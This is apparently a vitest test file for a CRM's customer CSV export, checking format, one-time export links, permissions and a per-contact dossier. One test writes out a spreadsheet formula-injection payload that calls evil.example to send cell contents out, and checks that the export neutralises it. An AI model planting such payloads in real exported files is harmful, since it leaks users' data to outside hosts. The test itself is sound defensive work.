import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withoutGuard } from '../../../cti-bridge/crm/export/csv-lines.ts';
import { demoPassword, margaretOkafor } from '../../../cti-bridge/store/seed/demo-people.ts';
import { startBridge, type TestBridge } from '../../support/bridge.ts';
import { ScriptedDesktop } from '../../support/scripted-desktop.ts';

let bridge: TestBridge;
let dana: ScriptedDesktop;
let lena: ScriptedDesktop;
beforeAll(async () => {
  bridge = await startBridge();
  const signIn = (username: string) =>
    ScriptedDesktop.logIn({ bridge: bridge.httpAddress, username, password: demoPassword, phoneMedia: null });
  dana = await signIn('dana.whitlock');
  lena = await signIn('lena.hartmann');
}, 120_000);
afterAll(async () => {
  for (const desk of [dana, lena]) desk.disconnect();
  await bridge.dispose();
  expect(bridge.bugs).toEqual([]);
});

const get = (desk: ScriptedDesktop, path: string) =>
  fetch(bridge.httpAddress + path, { headers: { authorization: `Bearer ${desk.login.token}` } });
const text = async (reply: Response) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(await reply.arrayBuffer());

/** Fields of a line whose texts have no comma in them. */
const cells = (line: string) => line.split(',').map((cell) => withoutGuard(cell.replace(/^"(.*)"$/, '$1')));

describe('customers as a file', () => {
  it('are all there, once each, for Excel to read and for an import to take back', async () => {
    const reply = await get(dana, '/api/exports/customers.csv?text=Okafor');
    expect(reply.headers.get('content-disposition')).toBe('attachment; filename="customers.csv"');
    const [head = '', ...lines] = (await text(reply)).trimEnd().split('\r\n');
    expect(head.startsWith('\ufeffcontactId,name,title,company')).toBe(true);
    const mobile = cells(head).indexOf('mobile');
    const margaret = lines.find((line) => line.startsWith(margaretOkafor.contactId)) ?? '';
    // A number with a plus would be a formula: it is guarded, and whole again when the guard is taken away.
    expect(margaret).toContain("'+44");
    expect(cells(margaret)[mobile]).toMatch(/^\+44\d{9,10}$/);

    const all = (await text(await get(dana, '/api/exports/customers.csv'))).trimEnd().split('\r\n');
    expect(all.length - 1).toBeGreaterThanOrEqual(500);
    expect(new Set(all.map((line) => line.split(',')[0])).size).toBe(all.length);
  });

  it('come by a link for whoever may export: once, without a log-in, as far as the asker sees', async () => {
    const { path } = await dana.ask('privacy:export-link', { text: 'Okafor' });
    // A browser that looks first does not use it up.
    expect((await fetch(bridge.httpAddress + path, { method: 'HEAD' })).status).toBe(404);
    const reply = await fetch(bridge.httpAddress + path);
    expect(reply.headers.get('content-disposition')).toBe('attachment; filename="customers.csv"');
    const direct = await text(await get(dana, '/api/exports/customers.csv?text=Okafor'));
    expect(await text(reply)).toBe(direct);
    expect((await fetch(bridge.httpAddress + path)).status).toBe(404);
    expect((await fetch(`${bridge.httpAddress}/api/exports/files/${'A'.repeat(43)}`)).status).toBe(404);
    expect(await lena.command('privacy:export-link', { text: '' })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
  });

  it('run nothing in a spreadsheet, whatever somebody is called', async () => {
    const evil = '=HYPERLINK("http://evil.example?x="&A1)';
    const fields = { name: evil, locale: 'en', title: '@SUM(1)', accountId: null } as const;
    await dana.ask('contact:create', { fields, identifiers: [], interactionId: null });
    const [, line = ''] = (await text(await get(dana, `/api/exports/customers.csv?text=${encodeURIComponent('=HYPERLINK')}`))).split(
      '\r\n',
    );
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1)"`);
    expect(line).toMatch(/,"?'@SUM/);
  });

  it('and the dossier of one are for those who may export, and told in the audit', async () => {
    for (const path of ['/api/exports/customers.csv', `/api/contacts/${margaretOkafor.contactId}/dossier`])
      expect([path, (await get(lena, path)).status]).toEqual([path, 403]);
    const page = await get(dana, `/api/contacts/${margaretOkafor.contactId}/dossier`);
    expect(page.headers.get('content-disposition')).toContain('attachment');
    const html = await page.text();
    expect(html).toContain('<h1>Everything stored of Margaret Okafor</h1>');
    const inside = /<script type="application\/json" id="dossier">(.*)<\/script>/s.exec(html)?.[1] ?? '';
    const asJson = (await (await get(dana, `/api/contacts/${margaretOkafor.contactId}/dossier?format=json`)).json()) as { tables: object };
    expect((JSON.parse(inside) as { tables: object }).tables).toEqual(asJson.tables);
    expect(Object.keys(asJson.tables)).toEqual(expect.arrayContaining(['person', 'identifier', 'timeline_entry', 'note']));
    expect((await get(dana, '/api/contacts/nobody/dossier')).status).toBe(404);
  });
});
